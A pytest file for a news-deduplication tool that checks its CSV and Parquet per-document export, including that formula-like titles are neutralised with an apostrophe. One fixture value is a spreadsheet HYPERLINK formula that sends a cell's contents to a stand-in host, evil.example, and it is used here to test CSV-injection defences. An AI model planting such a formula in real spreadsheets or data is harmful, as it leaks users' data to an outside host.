"""A report as a table: a row for each document, safe to open in a spreadsheet."""

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from articles_made import ARTICLES, record
from command_line import dedup, sentence
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from reports_made import report, story

from dedup.model import DocumentSummary
from dedup.model.members import COLUMNS, member_rows
from dedup.report.members import write_members

ALONE = (
    "Violin lessons begin again at the conservatory of Mirrow next term. Pupils from the age of six may apply at the"
    " porter's desk, and instruments are lent for a small deposit. Teachers hope for a string orchestra by Christmas.\n"
)
HOSTILE = '=HYPERLINK("http://evil.example?"&A1;"click")'


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    """Two reports of one event, a text in two copies, and one alone whose id and title are formulas."""
    alone = record("cheese", id="+1+2", title=HOSTILE, text=ALONE, published="2019-09-12")
    texts = "".join(record(name) for name in ARTICLES) + record("cheese", id="reprint", source="Écho") + alone
    (tmp_path / "news.jsonl").write_text(texts, encoding="utf-8")
    return tmp_path


def exported(corpus: Path, name: str) -> dict:
    run = dedup("cluster", "news.jsonl", "-o", "-", "--export", name, cwd=corpus)
    assert run.returncode == 0, run.stderr.decode()
    return json.loads(run.stdout)


def test_every_document_has_a_row_with_its_story_copy_group_and_scores(corpus: Path):
    stories = {s["representative"]: s for s in exported(corpus, "members.csv")["stories"]}
    with (corpus / "members.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    assert sorted(rows) == ["'+1+2", "cheese", "gates-echo", "gates-herald", "reprint"]
    assert list(rows["cheese"]) == list(COLUMNS)

    copies = stories["cheese"]
    for name in ("cheese", "reprint"):
        assert rows[name]["story"] == copies["id"]
        assert rows[name]["copy_group"] == copies["id"] + ":1"
        assert (rows[name]["representative"], rows[name]["copy_kind"]) == ("cheese", "exact")
        assert float(rows[name]["jaccard"]) == float(rows[name]["score"]) == 1.0
    assert (rows["reprint"]["via"], rows["reprint"]["source"]) == ("cheese", "Écho")

    [pair] = stories[rows["gates-echo"]["story_representative"]]["pairs"]
    for name in ("gates-echo", "gates-herald"):
        assert (rows[name]["representative"], rows[name]["copy_group"], rows[name]["jaccard"]) == (name, "", "")
        assert float(rows[name]["score"]) == pair["score"]

    alone = rows["'+1+2"]
    assert alone["title"] == "'" + HOSTILE
    assert (alone["story"], alone["score"], alone["representative"]) == ("", "", "'+1+2")


def test_parquet_has_the_rows_of_the_csv_and_no_apostrophes(corpus: Path):
    parquet = pytest.importorskip("pyarrow.parquet")
    found = exported(corpus, "members.parquet")
    table = parquet.read_table(corpus / "members.parquet")
    assert table.column_names == list(COLUMNS)
    rows = {row["id"]: row for row in table.to_pylist()}
    assert rows.keys() == {document["id"] for document in found["corpus"]["documents"]}
    assert rows["+1+2"]["title"] == HOSTILE
    assert rows["+1+2"]["story"] is None and rows["+1+2"]["score"] is None
    assert rows["reprint"]["jaccard"] == 1.0


def test_a_report_is_an_arrow_table():
    pytest.importorskip("pyarrow")
    found = report(story())
    table = found.to_arrow()
    assert [tuple(row.values()) for row in table.to_pylist()] == list(
        member_rows(found.corpus.documents, found.stories)
    )


def test_without_pyarrow_the_extra_is_named_before_anything_is_read(tmp_path: Path):
    code = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "sys.argv = ['dedup', 'cluster', 'none', '--export', 'members.parquet']\n"
        "from dedup.cli.main import main; sys.exit(main())"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False, cwd=tmp_path)
    assert run.returncode == 2
    assert run.stderr == b"dedup: Parquet needs an extra; pip install 'story-dedup[parquet]' gets it\n"


@pytest.mark.parametrize(
    ("name", "said"), [("members.xlsx", "must end in .csv or .parquet"), ("none/members.csv", "none does not exist")]
)
def test_an_export_that_cannot_be_written_is_told_before_anything_is_read(tmp_path: Path, name: str, said: str):
    run = dedup("cluster", "missing.txt", "--export", name, cwd=tmp_path)
    assert run.returncode == 2
    assert said in sentence(run)


texts = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)
formulas = st.tuples(st.sampled_from(["", " ", "  "]), st.sampled_from("=+-@＝\t"), texts).map("".join)


@given(st.lists(texts | formulas, min_size=1, max_size=4, unique=True))
def test_no_cell_is_a_formula_and_none_is_lost(tmp_path_factory: pytest.TempPathFactory, titles: list[str]):
    path = tmp_path_factory.mktemp("members") / "members.csv"
    documents = [
        DocumentSummary(id=f"d{n}", title=title, source="", published="", url="", language="en", n_words=1)
        for n, title in enumerate(titles)
    ]
    bare = report()
    write_members(replace(bare, corpus=replace(bare.corpus, documents=documents)), str(path))
    with path.open(encoding="utf-8", newline="") as file:
        cells = [row["title"] for row in csv.DictReader(file)]
    assert all(cell in (title, "'" + title) for cell, title in zip(cells, titles, strict=True))
    assert not [cell for cell in cells if cell.strip(" ")[:1] in {*"=+-@＝＋－＠\t\r\n"}]
